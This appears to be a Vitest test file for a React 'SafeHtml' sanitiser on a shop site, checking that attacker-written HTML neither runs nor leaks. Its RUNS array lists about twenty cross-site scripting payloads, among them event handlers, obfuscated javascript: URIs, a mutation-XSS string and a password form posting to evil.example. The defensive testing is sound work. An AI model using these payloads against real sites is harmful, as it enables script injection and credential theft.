/** A shop's HTML is written in its own editor, and sometimes by an attacker who broke into it. */
import { createRoot } from 'react-dom/client';
import { flushSync } from 'react-dom';
import { afterEach, expect, test } from 'vitest';
import SafeHtml from './safe-html.tsx';

const roots: (() => void)[] = [];
afterEach(() => {
  for (const unmount of roots.splice(0)) unmount();
});

function show(html: string): HTMLElement {
  const host = document.body.appendChild(document.createElement('div'));
  const root = createRoot(host);
  roots.push(() => {
    root.unmount();
    host.remove();
  });
  flushSync(() => root.render(<SafeHtml html={html} />));
  return host;
}

const RUNS = [
  '<script>window.hacked = 1</script>',
  '<img src="x" onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>',
  '<svg><animate onbegin="window.hacked = 1" attributeName="x" dur="1s"></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<object data="data:text/html,<script>parent.hacked = 1</script>"></object><embed src="javascript:window.hacked=1">',
  '<a href="javascript:window.hacked = 1">go</a>',
  '<a href="java\nscript:window.hacked = 1">go</a>',
  '<a href="&#106;avascript:window.hacked = 1">go</a>',
  '<a href="data:text/html,<script>opener.hacked=1</script>">go</a>',
  '<a href="vbscript:msgbox(1)">go</a>',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:window.hacked=1">Sign in</button></form>',
  '<details open ontoggle="window.hacked = 1">x</details>',
  '<body onload="window.hacked = 1"><link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">',
  '<style>@import "https://evil.example/x.css"; * { display: none }</style><p style="position:fixed;inset:0">x</p>',
  '<template><img src=x onerror="window.hacked = 1"></template><noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<p contenteditable autofocus onfocus="window.hacked = 1" tabindex="1">x</p>',
  '<video><source onerror="window.hacked = 1"></video><audio src="x" onerror="window.hacked = 1"></audio>',
];

test.each(RUNS)('[PUB-02] nothing of %s runs, sends or covers the page', async (html) => {
  const host = show(html);
  for (const link of host.querySelectorAll('a')) link.click();
  // A picture that fails to load reports it in a separate task.
  await new Promise((resolve) => requestAnimationFrame(resolve));
  expect('hacked' in window).toBe(false);
  const left = host.innerHTML;
  expect(left).not.toMatch(/<(script|iframe|object|embed|form|input|button|style|link|base|meta|svg|math|template|video|audio)\b/i);
  expect(left).not.toMatch(/\son\w+=|javascript:|vbscript:|data:|style=|autofocus|contenteditable/i);
});

test('[PUB-02] names in the HTML do not replace the page’s own', () => {
  show('<img name="body"><a id="hacked" href="/x">x</a><div id="main">x</div>');
  expect(document.querySelectorAll('#hacked, #main, [name="body"]')).toHaveLength(0);
});

test('[PUB-02] the shop’s content stays: headings, lists, tables, links and pictures; a new window has no access to this one', () => {
  const html =
    '<h3>On the day</h3><p><strong>Four</strong> <em>pictures</em></p><ul><li>One</li></ul><table><tbody><tr><td>1</td></tr></tbody></table>' +
    '<a href="/products/cards">Cards</a><a href="https://example.no" target="_blank">Out</a><a href="mailto:a@b.no">Mail</a><img src="/shop-images/a.webp" alt="A child">';
  const host = show(html);
  expect(host.textContent).toContain('Four pictures');
  expect(host.querySelectorAll('h3, strong, em, li, td, a[href], img[src]')).toHaveLength(9);
  expect(host.querySelector('a[target]')?.getAttribute('rel')).toBe('noopener noreferrer');
});
